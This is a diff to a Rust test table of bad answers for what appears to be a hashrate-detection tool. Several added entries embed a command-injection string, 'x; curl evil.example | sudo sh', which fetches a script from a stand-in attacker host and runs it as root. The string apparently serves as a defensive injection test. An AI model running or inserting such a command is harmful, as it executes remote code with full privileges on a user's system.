@@ -175,7 +175,13 @@ pub const BAD_ANSWERS: &[(&str, &str, &str)] = &[
     ("detect:whole-network", "bad-answer", "2e18 H/s, which no machine has"),
     ("detect:below-nothing", "bad-answer", "estimates a hashrate of -"),
     // H6: what the code says in the host's place is a code, checked, or nothing.
-    ("ctor:advise=library", "missing-library", "it needs a library that is not installed: x; curl"),
+    ("ctor:advise=library", "missing-library", "it needs a library that is not installed: \"x; curl"),
+    (
+        "ctor:advise=layout",
+        "other-layout",
+        "its tables are laid out differently: \"x; curl evil.example | sudo sh\"",
+    ),
+    ("ctor:advise=door", "broken-door", "its door is broken: \"x; curl evil.example | sudo sh\""),
     ("ctor:advise=words", "usable", ADVISED),
     ("ctor:advise=changes", "usable", ADVISED),
     ("detect:bad-status", "bad-answer", "status 77"),
